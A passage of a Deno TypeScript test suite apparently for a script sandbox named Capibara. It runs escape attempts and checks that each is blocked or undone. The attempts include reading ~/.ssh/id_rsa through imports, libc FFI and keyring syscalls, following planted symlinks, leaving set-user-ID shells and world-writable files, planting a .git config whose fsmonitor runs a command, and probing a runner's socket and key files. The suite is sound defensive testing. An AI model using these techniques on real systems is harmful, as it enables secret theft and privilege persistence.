  language: "typescript",
  script: ts(`// deno-lint-ignore no-explicit-any
const run = (Deno as any).run;
if (run) { run({ cmd: ["sh", "-c", "true"] }); breached = true; }
const out = new Deno.Command(Deno.execPath(), { args: ["eval", "console.log('escaped')"] }).outputSync();
breached = breached || new TextDecoder().decode(out.stdout).includes("escaped");`),
});
attack({
  name: "FFI: Deno.dlopen of libc",
  language: "typescript",
  script: ts(`const lib = Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });
breached = typeof lib.symbols.getpid() === "number";`),
});
attack({
  name: "--allow-all tricks: permission requests and env/sys probes",
  language: "typescript",
  script: ts(`const asks = ["run", "ffi", "sys", "env", "net"] as const;
for (const name of asks) {
  const status = await Deno.permissions.request({ name } as Deno.PermissionDescriptor);
  if (status.state === "granted") { breached = true; detail += name + " "; }
}
try { Deno.hostname(); breached = true; detail += "sys"; } catch { /* denied */ }`),
});
attack({
  name: "write into .capibara/ through a writable workdir",
  language: "typescript",
  context: { output: "result.txt" },
  script: ts(`for (const e of Deno.readDirSync(${JSON.stringify(PROJECT)} + "/.capibara/scripts")) {
  try {
    Deno.writeTextFileSync(${
    JSON.stringify(PROJECT)
  } + "/.capibara/scripts/" + e.name + "/script.ts", "// ow" + "ned", { append: true });
    breached = true;
  } catch (err) { detail = String(err); }
}`),
  hostUnchanged: async () => {
    for (const [name, text] of Object.entries(await storeHashes())) {
      assert.ok(!text.includes("// owned"), `${name} was modified`);
    }
  },
});

// --- kernel surfaces the seccomp filter closes -----------------------------------------------
attack({
  name: "read the host's session keyring through ctypes reached via __builtins__",
  language: "python",
  script: py(
    `ct = __builtins__.__import__("ctypes") if hasattr(__builtins__, "__import__") else __builtins__["__import__"]("ctypes")
libc = ct.CDLL(None, use_errno=True)
nr = 250 if os.uname().machine == "x86_64" else 219
key = libc.syscall(nr, 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
breached = key >= 0
detail = "keyring %d errno %d" % (key, ct.get_errno())`,
  ),
});
attack({
  name: "io_uring, userfaultfd and a netlink audit socket",
  language: "python",
  script: py(`import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
uring = libc.syscall(425, 1, ctypes.create_string_buffer(120))
uffd = libc.syscall(323 if x86 else 282, 0)
try:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()
    audit = True
except OSError:
    audit = False
breached = uring >= 0 or uffd >= 0 or audit
detail = "io_uring %d userfaultfd %d audit %s" % (uring, uffd, audit)`),
});
attack({
  name: "read the host's session keyring through perl's syscall()",
  language: "bash",
  script: sh(
    `nr=250; [ "$(uname -m)" = x86_64 ] || nr=219
k=$(perl -e "print syscall($nr, 0, -3, 0)" 2>/dev/null)
detail="keyring $k"
case "$k" in ''|-*) ;; *) breached=1 ;; esac`,
  ),
});

// --- TypeScript: the module graph, the OS layer and Deno's own state ----------------------------
const PROJECT_PRIVATE = "project-private-note";
await Deno.writeTextFile(join(PROJECT, "private.txt"), PROJECT_PRIVATE);
attack({
  name: "a static text import of ~/.ssh/id_rsa",
  language: "typescript",
  script: `import key from ${JSON.stringify(SSH_KEY)} with { type: "text" };\n` +
    ts(`detail = key;\nbreached = key.includes("hunter2");`),
  blockedBy: [PermissionError],
  leaks: ["hunter2"],
});
attack({
  name: "a relative ../../ import of a project file the context does not name",
  language: "typescript",
  // The entry lives in <project>/.capibara/scripts/<fingerprint>/.
  script: `import note from "../../../private.txt" with { type: "text" };\n` +
    ts(`detail = note;\nbreached = note.includes(${JSON.stringify(PROJECT_PRIVATE)});`),
  blockedBy: [PermissionError],
  leaks: [PROJECT_PRIVATE],
});
attack({
  name: "a literal dynamic import of ~/.ssh/id_rsa as bytes",
  language: "typescript",
  script: ts(`const mod = await import(${JSON.stringify(SSH_KEY)}, { with: { type: "bytes" } });
detail = new TextDecoder().decode(mod.default);
breached = detail.includes("hunter2");`),
  blockedBy: [PermissionError],
  leaks: ["hunter2"],
});

// A first run (Python, in the OS sandbox) plants symlinks in its output folder; a TypeScript run
// writing to the same folder follows them: Deno checks the paths as written.
const LINKED = join(PROJECT, "linked");
const TS_PLANTED = join(OTHER, "planted-by-typescript.txt");
attack({
  name: "follow symlinks an earlier run planted in its output folder",
  language: "typescript",
  osLayer: true,
  context: { output: "linked/result.txt" },
  before: async () => {
    // Planted on the host: copy-out no longer lets a run plant a symlink in the project, but a
    // cloned repository can carry one.
    await Deno.mkdir(LINKED, { recursive: true });
    await Deno.symlink(SSH_KEY, join(LINKED, "key"));
    await Deno.symlink(OTHER, join(LINKED, "other"));
    assert.ok((await Deno.lstat(join(LINKED, "key"))).isSymlink, "the first run planted nothing");
  },
  script: ts(`try {
  detail = Deno.readTextFileSync("linked/key");
  breached = detail.includes("hunter2");
} catch (error) { detail = String(error); }
Deno.writeTextFileSync("linked/other/planted-by-typescript.txt", "x");
breached = true;`),
  leaks: ["hunter2"],
  hostUnchanged: async () => {
    assert.equal(await exists(TS_PLANTED), false, "a file was written through the symlink");
  },
});

/** Every file below `dir` whose bytes hold `text`. */
async function filesHolding(dir: string, text: string): Promise<string[]> {
  const found: string[] = [];
  const needle = new TextEncoder().encode(text);
  const holds = (bytes: Uint8Array) => {
    outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
      for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
      return true;
    }
    return false;
  };
  for await (const entry of Deno.readDir(dir)) {
    const path = join(dir, entry.name);
    if (entry.isDirectory) found.push(...await filesHolding(path, text));
    else if (entry.isFile && holds(await Deno.readFile(path))) found.push(path);
  }
  return found;
}

// Another project's TypeScript entry, run first: its source must leave no trace in the shared
// cache, and this project's script must not find it there.
const OTHER_EMIT = "other-project-emitted-source-0xC0FFEE";
const emptySetDir = join(CACHE, "deno", await denoDirKey([]));
attack({
  name: "read another project's emitted script source from the shared DENO_DIR",
  language: "typescript",
  before: async () => {
    const other = join(ROOT, "other-ts-project");
    await Deno.mkdir(other, { recursive: true });
    await capibaraFor({
      name: "the other project's script",
      language: "typescript",
      script: ts(`const secret: string = ${JSON.stringify(OTHER_EMIT)};\ndetail = secret;`),
    }, other).run("escape test: the other project's TypeScript script", {
      language: "typescript",
    });
  },
  script: ts(`const walk = (dir: string): string[] => {
  const out: string[] = [];
  for (const e of Deno.readDirSync(dir)) {
    const path = dir + "/" + e.name;
    if (e.isDirectory) out.push(...walk(path));
    else if (e.isFile) out.push(path);
  }
  return out;
};
for (const path of walk(${JSON.stringify(emptySetDir)})) {
  try {
    const text = new TextDecoder().decode(Deno.readFileSync(path));
    if (text.includes(${
    JSON.stringify(OTHER_EMIT.slice(0, 20))
  })) { breached = true; detail = path; }
  } catch { /* unreadable */ }
}`),
  hostUnchanged: async () => {
    assert.deepEqual(await filesHolding(join(CACHE, "deno"), OTHER_EMIT), []);
  },
});
const LOCAL_STORAGE = {
  name: "keep localStorage across runs",
  language: "typescript" as const,
  script: ts(`const before = localStorage.getItem("capibara-escape");
localStorage.setItem("capibara-escape", "kept-from-an-earlier-run");
breached = before === "kept-from-an-earlier-run";
detail = String(before);`),
};
attack({
  ...LOCAL_STORAGE,
  // The same entry ran once before: what it stored must be gone.
  before: async () => {
    await capibaraFor(LOCAL_STORAGE).run(`escape test: typescript: ${LOCAL_STORAGE.name}`, {
      language: "typescript",
    });
  },
  hostUnchanged: async () => {
    assert.deepEqual(await filesHolding(CACHE, "kept-from-an-earlier-run"), []);
  },
});

// A POSIX ACL the script sets in a folder it may write outlives the run: another local user (uid
// 1001 here) could read or write there later, the folder's mode bits saying nothing of it.
{
  const shared = join(OTHER, "acl-exports");
  const acl = `import struct
entry = lambda tag, perm, uid: struct.pack("<HHI", tag, perm, uid)
ANY = 0xFFFFFFFF
ACL = struct.pack("<I", 2) + entry(1, 7, ANY) + entry(2, 7, 1001) + entry(4, 5, ANY) + entry(0x10, 7, ANY) + entry(0x20, 5, ANY)`;
  attack({
    name: "leave a POSIX ACL for another user on a granted folder",
    language: "python",
    allow: { write: [shared] },
    script: py(`${acl}
os.makedirs(${JSON.stringify(shared)}, exist_ok=True)
done = []
for name, value in (("system.posix_acl_access", ACL), ("system.posix_acl_default", ACL), ("user.note", b"x")):
    try:
        os.setxattr(${JSON.stringify(shared)}, name, value)
        done.append(name)
    except OSError as error:
        detail += "%s: errno %d; " % (name, error.errno)
breached = bool(done)
detail += " set: " + ",".join(done)`),
    hostUnchanged: async () => {
      const out = await new Deno.Command("/usr/bin/python3", {
        args: ["-c", "import os, sys; print(os.listxattr(sys.argv[1]))", shared],
        stdout: "piped",
      }).output();
      assert.equal(new TextDecoder().decode(out.stdout).trim(), "[]", "the folder keeps an ACL");
    },
  });
}

// A set-user-ID copy of a shell left in a folder the script may write lets any other local user
// act as the user who ran Capibara (a review's attack, as a user other than root: root's give-back
// clears the bit by its chown, a plain user has no give-back).
{
  const shared = join(OTHER, "setuid-exports");
  attack({
    name: "leave a set-user-ID shell (and a set-group-ID folder) in a granted folder",
    language: "python",
    allow: { write: [shared] },
    script: py(`import shutil
os.makedirs(${JSON.stringify(shared)}, exist_ok=True)
shell = os.path.join(${JSON.stringify(shared)}, "sh")
shutil.copyfile("/bin/sh", shell)
done = []
for name, action in (
    ("chmod 4755", lambda: os.chmod(shell, 0o4755)),
    ("chmod 2755", lambda: os.chmod(shell, 0o2755)),
    ("open 4755", lambda: os.close(os.open(shell + "2", os.O_CREAT | os.O_WRONLY, 0o4755))),
    ("O_TMPFILE 4755", lambda: os.close(os.open(${
      JSON.stringify(shared)
    }, os.O_TMPFILE | os.O_WRONLY, 0o4755))),
    ("mkdir 2777", lambda: os.mkdir(os.path.join(${JSON.stringify(shared)}, "sub"), 0o2777)),
):
    try:
        action()
        done.append(name)
    except OSError as error:
        detail += "%s: errno %d; " % (name, error.errno)
breached = bool(done) or bool(os.stat(shell).st_mode & 0o6000)
detail += " done: " + ",".join(done)`),
    hostUnchanged: async () => {
      for await (const entry of Deno.readDir(shared)) {
        const mode = (await Deno.lstat(join(shared, entry.name))).mode ?? 0;
        assert.equal(mode & 0o6000, 0, `${entry.name} keeps mode ${(mode & 0o7777).toString(8)}`);
      }
    },
  });
}

// Write for every user on the granted folder, or on a file of the user's in it: any other local
// user could change them after the run (the same class as the ACL and the set-user-ID bit above).
{
  const shared = join(OTHER, "world-exports");
  const kept = join(shared, "users-file.txt");
  attack({
    name: "make a granted folder and the user's file in it writable by every user",
    language: "python",
    allow: { write: [shared] },
    before: async () => {
      await Deno.mkdir(shared, { recursive: true, mode: 0o755 });
      await Deno.chmod(shared, 0o755);
      await Deno.writeTextFile(kept, "the user's own\n", { mode: 0o644 });
      await Deno.chmod(kept, 0o644);
    },
    script: py(`done = []
folder = ${JSON.stringify(shared)}
kept = ${JSON.stringify(kept)}
fd = os.open(kept, os.O_RDONLY)
for name, action in (
    ("chmod 0777 folder", lambda: os.chmod(folder, 0o777)),
    ("chmod 0666 file", lambda: os.chmod(kept, 0o666)),
    ("fchmod 0646 file", lambda: os.fchmod(fd, 0o646)),
    ("chmod 1777 folder", lambda: os.chmod(folder, 0o1777)),
):
    try:
        action()
        done.append(name)
    except OSError as error:
        detail += "%s: errno %d; " % (name, error.errno)
breached = bool(done) or bool(os.stat(folder).st_mode & 0o002) or bool(os.stat(kept).st_mode & 0o002)
detail += " done: " + ",".join(done)`),
    hostUnchanged: async () => {
      assert.equal((await Deno.lstat(shared)).mode! & 0o7777, 0o755, "the folder's mode changed");
      assert.equal((await Deno.lstat(kept)).mode! & 0o7777, 0o644, "the file's mode changed");
    },
  });
  // New files and folders pass the sandbox's umask, which has no write for others whatever the
  // umask Capibara was started with.
  // Capibara runs in a process of its own started with that umask (a umask is the whole
  // process's: the test files beside this one must not create files under it).
  const made = join(OTHER, "umask-exports");
  const underZero: Attack = {
    name: "make files and folders with every user's write in their mode, under a umask of 0000",
    language: "python",
    allow: { write: [made] },
    before: async () => {
      await Deno.mkdir(made, { recursive: true, mode: 0o755 });
    },
    via: () => underUmask(underZero, 0),
    script: py(`folder = ${JSON.stringify(made)}
fd = os.open(os.path.join(folder, "file.txt"), os.O_CREAT | os.O_WRONLY, 0o666)
os.close(fd)
os.mkdir(os.path.join(folder, "drop"), 0o777)
modes = {name: os.stat(os.path.join(folder, name)).st_mode & 0o777 for name in os.listdir(folder)}
detail = str(modes)
breached = any(mode & 0o002 for mode in modes.values())`),
    hostUnchanged: async () => {
      for await (const entry of Deno.readDir(made)) {
        const mode = (await Deno.lstat(join(made, entry.name))).mode! & 0o777;
        assert.equal(mode & 0o002, 0, `${entry.name} is writable by every user`);
      }
    },
  };
  attack(underZero);
  // A script that clears its own umask makes what it creates writable by every user (the
  // filter sees only the mode asked for, 0666 as every open asks): taken off once the run is over,
  // on what the run changed only (tests/sandbox/policy_test.ts).
  const cleared = join(OTHER, "cleared-umask");
  attack({
    name: "clear the umask, then make files and folders writable by every user",
    language: "python",
    allow: { write: [cleared] },
    before: async () => {
      await Deno.mkdir(cleared, { recursive: true, mode: 0o755 });
      await Deno.chmod(cleared, 0o755);
    },
    script: py(`folder = ${JSON.stringify(cleared)}
os.umask(0)
os.close(os.open(os.path.join(folder, "file.txt"), os.O_CREAT | os.O_WRONLY, 0o666))
os.mkdir(os.path.join(folder, "drop"), 0o777)
os.mkdir(os.path.join(folder, "drop", "deeper"), 0o777)
os.close(os.open(os.path.join(folder, "drop", "deeper", "x.txt"), os.O_CREAT | os.O_WRONLY, 0o666))
# Write for others only: not even its owner may read it.
os.close(os.open(os.path.join(folder, "drop", "blind"), os.O_CREAT | os.O_WRONLY, 0o002))
try:
    os.symlink("/etc/passwd", os.path.join(folder, "link"))  # refused in a folder written in place
except OSError:
    pass
# A name that is not UTF-8, beside one that reads back the same (U+FFFD): reachable by neither.
os.mkdir(os.path.join(folder, "bytes"), 0o777)
for name in (b"x\\xff", "x\\ufffd".encode()):
    os.close(os.open(os.path.join(folder.encode(), b"bytes", name), os.O_CREAT | os.O_WRONLY, 0o666))
detail = oct(os.stat(os.path.join(folder, "drop")).st_mode & 0o7777)`),
    granted(o) {
      // Inside the run the umask was the script's: the folder was made open to every user.
      assert.equal(o.detail, "0o777");
    },
    hostUnchanged: async () => {
      const open: string[] = [];
      const walk = async (dir: string) => {
        for await (const entry of Deno.readDir(dir)) {
          const path = join(dir, entry.name);
          const info = await Deno.lstat(path);
          if (info.isSymlink) continue;
          if ((info.mode! & 0o002) !== 0) open.push(path);
          // Only into folders other users may enter: what lies in one closed to them (a name
          // that is not UTF-8 closes its folder) is beyond their reach, whatever its mode.
          if (info.isDirectory && (info.mode! & 0o001) !== 0) await walk(path);
        }
      };
      await walk(cleared);
      assert.deepEqual(open, [], "left writable by every user");
      assert.equal((await Deno.lstat(join(cleared, "drop", "blind"))).mode! & 0o7777, 0o000);
      // What cannot be named is closed off: no other user may enter the folder holding it.
      assert.equal((await Deno.lstat(join(cleared, "bytes"))).mode! & 0o007, 0);
      assert.equal((await Deno.lstat("/etc/passwd")).mode! & 0o7777, 0o644);
    },
  });
  // A root run lends a granted folder to the sandbox's uid and gives each file back to its owner
  // after: by the file, not by its name. A script that gives root's file another user's name must
  // not hand it to them; one that nests folders past the longest path leaves nothing others reach.
  const lent = join(OTHER, "lent-names");
  const deep = "d".repeat(200);
  attack({
    name: "give root's file another user's name (rm, ln), and nest an open folder past PATH_MAX",
    language: "bash",
    allow: { write: [lent] },
    before: async () => {
      await Deno.mkdir(lent, { recursive: true });
      await Deno.chmod(lent, 0o755);
      await Deno.writeTextFile(join(lent, "run.sh"), "#!/bin/sh\n");
      await Deno.writeTextFile(join(lent, "alice.txt"), "alice's\n");
      // Another user's file, where the run may make one (only root may give it away).
      if (Deno.uid() === 0) await Deno.chown(join(lent, "alice.txt"), 1234, 1234);
    },
    script: sh(`cd ${JSON.stringify(lent)} && rm alice.txt && ln run.sh alice.txt
umask 0
d=${deep}
for i in $(seq 25); do mkdir "$d" && cd "$d" || break; done
mkdir open && echo new > open/f && detail="nested"`),
    granted(o) {
      assert.equal(o.detail, "nested");
    },
    hostUnchanged: async () => {
      assert.equal((await Deno.lstat(join(lent, "run.sh"))).uid, Deno.uid(), "a file given away");
      // Down the chain as far as paths reach: the last folder reached lets no other user in.
      let path = join(lent, deep);
      while (new TextEncoder().encode(`${path}/${deep}`).length < 4096) path += `/${deep}`;
      assert.equal((await Deno.lstat(path)).mode! & 0o007, 0, "a way in for other users");
    },
  });
  // Under Deno's flags alone nothing refuses the chmod itself: it too is taken back.
  const chmodded = join(OTHER, "chmodded-by-deno");
  attack({
    name: "give every user write on what it makes in a granted folder",
    language: "typescript",
    allow: { write: [chmodded] },
    before: async () => {
      await Deno.mkdir(chmodded, { recursive: true, mode: 0o755 });
      await Deno.chmod(chmodded, 0o755);
    },
    script: ts(`const folder = ${JSON.stringify(chmodded)};
Deno.writeTextFileSync(folder + "/tool.sh", "#!/bin/sh\\n");
Deno.mkdirSync(folder + "/drop");
for (const path of [folder + "/tool.sh", folder + "/drop"]) {
  try {
    Deno.chmodSync(path, 0o777);
  } catch (error) {
    detail += String(error).slice(0, 80) + "; ";
  }
}`),
    granted() {},
    hostUnchanged: async () => {
      for (const name of ["tool.sh", "drop"]) {
        const mode = (await Deno.lstat(join(chmodded, name))).mode! & 0o7777;
        assert.equal(mode & 0o002, 0, `${name} is writable by every user (${mode.toString(8)})`);
      }
    },
  });
  attack({
    name: "a granted folder's modes may still change, short of every user's write",
    language: "python",
    allow: { write: [shared] },
    script: py(`path = os.path.join(${JSON.stringify(shared)}, "tool.sh")
open(path, "w").write("#!/bin/sh\\n")
os.chmod(path, 0o755)
os.chmod(path, 0o664)
os.chmod(path, 0o700)
detail = oct(os.stat(path).st_mode & 0o7777)`),
    granted(o) {
      assert.equal(o.detail, "0o700");
    },
  });
}

// --- granted cases still work ------------------------------------------------------------------
attack({
  name: "a granted write path works",
  language: "python",
  allow: { write: [join(OTHER, "exports")] },
  script: py(`os.makedirs(${JSON.stringify(join(OTHER, "exports"))}, exist_ok=True)
open(${JSON.stringify(join(OTHER, "exports", "ok.txt"))}, "w").write("granted")
detail = "wrote"`),
  granted(o) {
    assert.equal(o.detail, "wrote");
    assert.equal(Deno.readTextFileSync(join(OTHER, "exports", "ok.txt")), "granted");
  },
});
// A grant that holds the workdir (`--allow-write ..`) makes the workdir writable as the grant is;
// its .capibara/ stays read-only.
{
  const held = join(OTHER, "held");
  const work = join(held, "mid", "work");
  attack({
    name: "a grant holding the workdir: the workdir is writable, its .capibara/ is not, it stays",
    language: "python",
    // The project's root above the workdir: the workdir holds nothing protected of its own.
    project: held,
    options: { cwd: work },
    allow: { write: [held] },
    before: () => Deno.mkdir(work, { recursive: true }),
    script: py(`done = []
for path in ("in-workdir.txt", "../beside.txt", "../../.capibara/planted"):
    try:
        open(path, "w").write("x")
        done.append(path)
    except OSError as error:
        done.append("refused " + path)
for name, source in (("workdir", os.getcwd()), ("folder above it", os.path.dirname(os.getcwd()))):
    try:
        os.rename(source, source + "-moved")
        done.append("moved the " + name)
    except OSError:
        done.append("refused the move of the " + name)
detail = ",".join(done)`),
    granted(o) {
      assert.equal(
        o.detail,
        "in-workdir.txt,../beside.txt,refused ../../.capibara/planted," +
          "refused the move of the workdir,refused the move of the folder above it",
      );
      assert.equal(Deno.readTextFileSync(join(work, "in-workdir.txt")), "x");
    },
  });
}
// A .git made where there was none, in a workdir below the project's root: git takes it for the
// repository of that folder and runs its core.fsmonitor on the user's next git status there.
{
  const repo = join(OTHER, "repo");
  const sub = join(repo, "sub");
  attack({
    name: "plant a .git with an fsmonitor in a writable workdir below the project's root",
    language: "bash",
    project: repo,
    options: { cwd: sub },
    allow: { write: [sub] },
    before: async () => {
      await Deno.mkdir(join(repo, ".git"), { recursive: true });
      await Deno.mkdir(sub, { recursive: true });
    },
    script: sh(`mkdir -p .git/objects .git/refs && echo 'ref: refs/heads/main' > .git/HEAD \
  && printf '[core]\\n\\tfsmonitor = "touch ${
      join(OTHER, "PWNED-FSMONITOR")
    }; false"\\n' > .git/config \
  && echo x > .profile && detail="planted"`),
    blockedBy: [PermissionError],
    hostUnchanged: async () => {
      assert.equal(await exists(join(sub, ".git")), false, "sub/.git is there");
      assert.equal(await exists(join(sub, ".profile")), false, "sub/.profile is there");
      assert.equal(await exists(join(OTHER, "PWNED-FSMONITOR")), false);
    },
  });
}
// What the filter refuses answers as a plain file system would: tools that copy modes, read the
// umask by setting it to 0 and back, or build an environment still work.
attack({
  name: "cp -a, install -m, mkdir -p and a venv with pip work in the sandbox",
  language: "bash",
  timeout: 60,
  script: sh(
    `cd "$TMPDIR" && echo x > a && mkdir -p d/e/f && cp -a a b 2>&1 && install -m 0644 a c 2>&1 \
  && /usr/bin/python3 -m venv env >/dev/null 2>&1 && env/bin/python -m pip --version >/dev/null 2>&1 \
  && detail="all worked" || detail="failed"`,
  ),
  granted(o) {
    assert.equal(o.detail, "all worked");
  },
});
attack({
  name: "inputs named by the context are readable, outputs writable",
  language: "typescript",
  context: { input: "data/in.txt", output: "out/copy.txt" },
  script: ts(`const text = Deno.readTextFileSync("data/in.txt");
Deno.mkdirSync("out", { recursive: true });
Deno.writeTextFileSync("out/copy.txt", text);
artifacts = ["out/copy.txt"];
detail = text.trim();`),
  granted(o) {
    assert.equal(o.detail, "input data");
    assert.equal(Deno.readTextFileSync(join(PROJECT, "out", "copy.txt")), "input data\n");
  },
});

step({
  name: "escape: python, bash, typescript: read a pipe the program calling Capibara left open",
  ignore: !OS_SANDBOX,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    // A program (a shell, a build tool) runs the SDK with descriptor 7 a pipe it left open without
    // close-on-exec; each script tries to read it.
    const project = join(ROOT, "leaked-fd-project");
    await Deno.mkdir(project, { recursive: true });
    const scripts = {
      python: py(`data = os.read(7, 100)
breached = b"LEAKED" in data
detail = repr(data)`),
      bash: sh(`data=$(timeout 2 cat <&7 2>&1)
case "$data" in *LEAKED*) breached=1;; esac
detail="$data"`),
      typescript: ts(`const net = await import("node:net");
let socket: { destroy(): void } | undefined;
const data = await new Promise<string>((resolve) => {
  try {
    const s = new net.Socket({ fd: 7, readable: true });
    socket = s;
    s.on("data", (d: unknown) => resolve(String(d)));
    s.on("error", (e: unknown) => resolve("error " + String(e)));
  } catch (e) {
    resolve("error " + String(e));
  }
  setTimeout(() => resolve("timeout"), 2000);
});
socket?.destroy();
breached = data.includes("LEAKED");
detail = data.slice(0, 200);`),
    };
    const child = join(ROOT, "leaked_fd_child.ts");
    await Deno.writeTextFile(
      child,
      `import { Capibara } from ${
        JSON.stringify(new URL("../../src/capibara.ts", import.meta.url).href)
      };
const scripts = ${JSON.stringify(scripts)};
for (const [language, script] of Object.entries(scripts)) {
  const bundle = { language, script, requirements: [], outputs: {}, aliases: {},
    needs: { network: [], env: [] }, readme: "" };
  const cb = new Capibara({ root: ${JSON.stringify(project)}, cwd: ${JSON.stringify(project)},
    cacheDir: ${JSON.stringify(CACHE)}, sandbox: ${!NO_SANDBOX}, warn: () => {},
    generator: { kind: "escape-test", generate: () => Promise.resolve({ bundle, model: "m", attempts: 1 }) } });
  try {
    const r = await cb.run("escape test: leaked descriptor " + language, { language, timeout: 30 });
    console.log(JSON.stringify({ language, output: r.output }));
  } catch (error) {
    console.log(JSON.stringify({ language, error: String(error) }));
  }
}
`,
    );
    const out = await new Deno.Command("bash", {
      args: [
        "-c",
        'exec 7< <(echo LEAKED-PIPE-SECRET); exec "$0" run -A --no-config "$1"',
        Deno.execPath(),
        child,
      ],
      stdout: "piped",
      stderr: "piped",
    }).output();
    const stdout = new TextDecoder().decode(out.stdout);
    assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
    const results = stdout.trim().split("\n").map((line) => JSON.parse(line));
    assert.equal(results.length, 3, stdout);
    for (const result of results) {
      assert.ok(
        !JSON.stringify(result).includes("LEAKED-PIPE"),
        `BREACH: ${JSON.stringify(result)}`,
      );
      if (result.output) assert.equal(result.output.breached, false, JSON.stringify(result));
    }
  },
});

step({
  name: "escape: python: from a run the resident runner serves, reach the runner or its clients",
  ignore: !OS_SANDBOX,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const runnerEnv = { CAPIBARA_RUNNER_NAME: `escape-${crypto.randomUUID()}` };
    // The runner's abstract name, as a script could compute it; its key file, wherever visible.
    const address = runnerAddress(runnerEnv).slice(1);
    const keyFile = runnerKeyFile(runnerEnv);
    const a = {
      name: "reach the runner",
      language: "python" as const,
      script: py(`import glob, socket
reached = []
for name in ["\\0" + ${JSON.stringify(address)}]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(name)
        s.sendall(b'{"v": 1, "hello": "x"}\\n')
        reached.append(s.recv(200).decode(errors="replace"))
    except OSError as exc:
        detail += repr(exc)
keys = []
for path in [${
        JSON.stringify(keyFile)
      }] + glob.glob("/tmp/capibara-*/*.key") + glob.glob("/run/user/*/capibara/*.key"):
    try:
        keys.append(open(path, "rb").read().hex()[:8])
    except OSError:
        pass
# The plans hits start their sandboxes from (this command's first hits wrote one): read, or plant.
plans = []
for folder in glob.glob("/tmp/capibara-*/plans") + glob.glob("/run/user/*/capibara/plans"):
    try:
        plans += [open(p).read()[:40] for p in glob.glob(folder + "/*")]
        open(os.path.join(folder, "planted.json"), "w").write("{}")
        plans.append("planted in " + folder)
    except OSError as exc:
        detail += repr(exc)
runners = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"runner" in open(path, "rb").read():
            runners.append(path)
    except OSError:
        pass
# The witnesses the runner and its clients show (memfds named after their secret bytes).
witnesses = []
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if "capibara-witness" in os.readlink(path):
            witnesses.append(path)
    except OSError:
        pass
# Links to the host's files left in the run's own folder, which the runner removes once its answer
# went: its removal must remove the links, never what they name.
scratch = os.environ["TMPDIR"]
for i, target in enumerate(${JSON.stringify([OTHER, SSH_KEY, join(PROJECT, ".git")])}):
    os.symlink(target, os.path.join(scratch, f"link-{i}"))
    os.makedirs(os.path.join(scratch, "deep", str(i)), exist_ok=True)
    os.symlink(target, os.path.join(scratch, "deep", str(i), "link"))
open(os.path.join(scratch, ${JSON.stringify(RUN_FOLDER_MARKER)}), "w").close()
breached = bool(reached) or bool(runners) or bool(keys) or bool(witnesses) or bool(plans)
detail = f"{reached} {keys} {runners} {witnesses} {plans} {detail}"`),
    };
    const prompt = "escape test: python: reach the runner";
    // The entry is stored first, then run by the command, which hands it to the runner.
    await capibaraFor(a).run(prompt, { language: "python", dryRun: true });
    const env = {
      HOME,
      ...runnerEnv,
      CAPIBARA_CACHE_DIR: CACHE,
      // Unset: the default (a runner started on demand, outside CI).
      CAPIBARA_RUNNER: "",
      // Deno's own cache stays the test's (HOME is the attacked host's).
      DENO_DIR: Deno.env.get("DENO_DIR") ??
        join(Deno.env.get("HOME") ?? "/root", ".cache", "deno"),
    };
    const cli = (args: string[]) => runCli(args, { cwd: PROJECT, env, entry: CLI });
    const breached = (run: CliResult) => {
      assert.equal(run.code, 0, run.stderr + run.stdout);
      return (run.json as { output: Record<string, unknown> }).output;
    };
    try {
      if (NO_SANDBOX) {
        // Without the sandbox the runner declines the run: the command runs it, unconfined.
        assert.equal((await cli(["runner", "start"])).code, 0);
        const output = breached(await cli(["run", prompt, "--json", "--no-sandbox"]));
        assert.equal(output.breached, false, `BREACH: ${JSON.stringify(output)}`);
        return;
      }
      // Started on demand by the second hit, as by default, serving the third.
      for (let i = 0; i < 3; i++) {
        if (i === 2) {
          for (let wait = 0; wait < 200; wait++) {
            const status = (await cli(["runner", "status", "--json"])).json as { running: boolean };
            if (status.running) break;
            await new Promise((r) => setTimeout(r, 100));
          }
        }
        const output = breached(await cli(["run", prompt, "--json"]));
        assert.equal(output.breached, false, `BREACH: ${JSON.stringify(output)}`);
      }
      const status = (await cli(["runner", "status", "--json"])).json as { served: number };
      assert.equal(status.served, 1, "the run did not go through the runner");
    } finally {
      await cli(["runner", "stop"]);
    }
    // The runs' folders went (the runner's after its answer), and nothing their links named.
    for (const path of [join(OTHER, "secret.txt"), SSH_KEY, join(PROJECT, ".git", "config")]) {
      assert.ok(
        await exists(path),
        `BREACH: the removal of a run's folder followed a link to ${path}`,
      );
    }
    let left: string[] = [];
    for (let wait = 0; wait < 50; wait++) {
      left = runFolders().filter((dir) => lstatSyncOrNull(join(dir, RUN_FOLDER_MARKER)) !== null);
      if (left.length === 0) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    assert.deepEqual(left, [], "a run's folder was left behind");
  },
});

/** What the runner attack leaves in its run's folder, to tell that folder's removal. */
const RUN_FOLDER_MARKER = `capibara-escape-marker-${crypto.randomUUID()}`;

/** The runs' folders in the temp folders a run of this suite may use. */
function runFolders(): string[] {
  const bases = new Set(["/tmp", Deno.env.get("TMPDIR") ?? "/tmp"]);
  return [...bases].flatMap((base) => {
    try {
      return [...Deno.readDirSync(base)].filter((e) => e.name.startsWith("capibara-run-"))
        .map((e) => join(base, e.name));
    } catch {
      return [];
    }
  });
}

Deno.test(escapeSuite("files and secrets", { atLeast: { sandbox: 69, noSandbox: 18 } }));
